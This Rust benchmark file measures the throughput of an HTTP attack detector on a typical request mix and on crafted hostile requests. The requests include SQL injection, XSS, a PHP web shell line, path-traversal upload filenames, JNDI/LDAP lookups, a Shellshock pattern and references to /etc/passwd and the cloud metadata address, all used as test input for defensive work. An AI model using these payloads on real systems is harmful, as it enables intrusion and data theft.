//! Detector throughput on a typical request mix, and the cost of hostile requests.
//!
//! `cargo bench -p vxtap-detect --bench detect`; the `mix` group reports requests/s (elements/s) on one
//! core.

use std::hint::black_box;

use criterion::{Criterion, Throughput, criterion_group, criterion_main};
use vxtap_detect::Detector;
use vxtap_http::{Header, Request};

fn req(method: &str, target: &str, headers: &[(&str, &str)], body: &[u8]) -> Request {
    let mut hs: Vec<Header> = [
        ("Host", "shop.example.com"),
        (
            "User-Agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
        ),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
        ("Accept-Language", "en-US,en;q=0.9"),
        ("Accept-Encoding", "gzip, deflate, br"),
    ]
    .iter()
    .chain(headers)
    .map(|(n, v)| Header { name: n.as_bytes().to_vec(), value: v.as_bytes().to_vec() })
    .collect();
    if !body.is_empty() {
        hs.push(Header { name: b"Content-Length".to_vec(), value: body.len().to_string().into_bytes() });
    }
    Request {
        method: method.as_bytes().to_vec(),
        target: target.as_bytes().to_vec(),
        protocol: b"HTTP/1.1".to_vec(),
        headers: hs,
        body_len: body.len() as u64,
        body: body.to_vec(),
        ..Request::default()
    }
}

/// The typical mix: mostly page, asset and API traffic with cookies; one request in ten is an attack.
pub fn mix() -> Vec<Request> {
    let cookie =
        ("Cookie", "_ga=GA1.2.1234567890.1716239022; sessionid=9f8e7d6c5b4a39281706f5e4d3c2b1a0; theme=dark");
    let referer = ("Referer", "https://shop.example.com/products?page=2&sort=price_asc");
    vec![
        req("GET", "/", &[cookie], b""),
        req("GET", "/static/js/app.3f9a2c.js", &[referer], b""),
        req("GET", "/products/shoes/running?size=42&color=blue&page=3", &[cookie, referer], b""),
        req("GET", "/search?q=O%27Brien+%26+Sons+tweed+jacket&sort=relevance", &[cookie, referer], b""),
        req(
            "GET",
            "/api/v1/orders?status=shipped&from=2024-01-01&to=2024-06-30&fields=id,total,items",
            &[("Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NSJ9.c2lnbmF0dXJlc2lnbmF0dXJl"), ("Accept", "application/json")],
            b"",
        ),
        req(
            "POST",
            "/api/v1/profile",
            &[cookie, ("Content-Type", "application/json")],
            br#"{"name":"Zo\u00eb D'Angelo","address":{"street":"12 O'Connell St.","city":"Dublin"},"tags":["a","b"],"newsletter":true,"bio":"Select the best: union jobs & more"}"#,
        ),
        req(
            "POST",
            "/login",
            &[cookie, ("Content-Type", "application/x-www-form-urlencoded")],
            b"username=sean.obrien&password=S3cr3t%27Pa%24%24&remember=on&csrf=a8f5f167f44f4964e6c998dee827110c",
        ),
        req("GET", "/images/logo@2x.png", &[referer], b""),
        req("GET", "/account/orders/98765", &[cookie], b""),
        req("GET", "/search?q=1%27+UNION+SELECT+username%2Cpassword+FROM+users--", &[cookie], b""),
    ]
}

/// Hostile requests: long values, deep JSON, many parameters, long multipart, a long header.
pub fn hostile() -> Vec<(&'static str, Request)> {
    let long_q = format!("/s?q={}", "%27%20or%20".repeat(40_000));
    let many =
        format!("/p?{}", (0..5000).map(|i| format!("a{i}=%3Cscript%3E{i}")).collect::<Vec<_>>().join("&"));
    let deep = format!("{}\"x\"{}", "[".repeat(100_000), "]".repeat(100_000));
    let wide_json = format!(
        "{{{}}}",
        (0..20_000).map(|i| format!("\"k{i}\":\"<svg onload=alert({i})>\"")).collect::<Vec<_>>().join(",")
    );
    let mut multipart = Vec::new();
    for i in 0..2000 {
        multipart.extend_from_slice(format!("--B\r\nContent-Disposition: form-data; name=\"f{i}\"; filename=\"../../{i}.php\"\r\n\r\n<?php system($_GET[1]); ?> ${{jndi:ldap://x/{i}}}\r\n").as_bytes());
    }
    multipart.extend_from_slice(b"--B--\r\n");
    let anchors =
        "union select sleep( ../ <script ${jndi: () { :; }; /etc/passwd 169.254.169.254 ".repeat(4000);
    vec![
        ("long_value", req("GET", &long_q, &[], b"")),
        ("many_params", req("GET", &many, &[], b"")),
        ("deep_json", req("POST", "/api", &[("Content-Type", "application/json")], deep.as_bytes())),
        ("wide_json", req("POST", "/api", &[("Content-Type", "application/json")], wide_json.as_bytes())),
        ("multipart", req("POST", "/up", &[("Content-Type", "multipart/form-data; boundary=B")], &multipart)),
        (
            "all_anchors",
            req(
                "POST",
                "/x",
                &[("Content-Type", "text/plain"), ("User-Agent", &anchors[..60_000])],
                anchors.as_bytes(),
            ),
        ),
        ("percent_storm", req("GET", &format!("/x?a={}", "%25".repeat(100_000)), &[], b"")),
        (
            "entity_storm",
            req(
                "POST",
                "/c",
                &[("Content-Type", "application/x-www-form-urlencoded")],
                format!("c={}", "%26%2360%3B".repeat(30_000)).as_bytes(),
            ),
        ),
    ]
}

#[allow(dead_code)]
fn bench(c: &mut Criterion) {
    let det = Detector::builtin();
    let mix = mix();
    let mut g = c.benchmark_group("mix");
    g.throughput(Throughput::Elements(mix.len() as u64));
    g.bench_function("inspect", |b| {
        b.iter(|| {
            for r in &mix {
                black_box(det.inspect(black_box(r)));
            }
        })
    });
    g.finish();
    let mut g = c.benchmark_group("hostile");
    g.sample_size(20);
    for (name, r) in hostile() {
        g.bench_function(name, |b| b.iter(|| black_box(det.inspect(black_box(&r)))));
    }
    g.finish();
    c.bench_function("builtin_clone", |b| b.iter(|| black_box(Detector::builtin())));
}

criterion_group!(benches, bench);
criterion_main!(benches);
